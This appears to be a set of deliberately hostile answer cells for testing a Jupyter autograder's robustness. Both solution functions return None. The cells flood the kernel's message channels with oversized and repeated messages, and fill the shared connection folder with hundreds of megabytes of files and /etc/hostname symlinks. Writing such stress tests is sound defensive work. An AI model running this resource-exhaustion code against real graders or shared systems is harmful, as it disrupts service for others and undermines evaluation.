# Attacks: the grader's memory and patience, by floods of messages and of processes at once. Every answer is wrong.
# %% answer id="write_conv_output_size"
import os
import time

kernel = get_ipython().kernel
block = bytes(7 << 20)
try:  # one message of many parts, which costs the sender the memory of one
    kernel.iopub_thread.socket.send_multipart([block] * 16, copy=False)
except Exception as error:
    print(type(error).__name__)
end = time.time() + 1
while time.time() < end:
    kernel.session.send(kernel.iopub_socket, "stream", {"name": "stdout", "text": "x" * 100_000}, parent=kernel.get_parent("shell"))
    kernel.session.send(kernel.iopub_socket, "status", {"execution_state": "busy"}, parent=kernel.get_parent("shell"))


def conv_output_size(size, kernel, stride=1, padding=0):
    return None
# %% answer id="write_correlate2d"
from ipykernel.connect import get_connection_file

shared = os.path.dirname(get_connection_file())  # the one folder that grader and kernel share
try:
    for number in range(6):
        with open(os.path.join(shared, f"fill_{number}"), "wb") as file:
            for _ in range(50):  # at most 300 MB, should nothing stop it
                file.write(bytes(1 << 20))
except OSError as error:
    print(error)
for number in range(2_000):
    try:
        os.symlink("/etc/hostname", os.path.join(shared, f"link_{number}"))
    except OSError:
        break


def correlate2d(image, kernel, stride=1, padding=0):
    return None
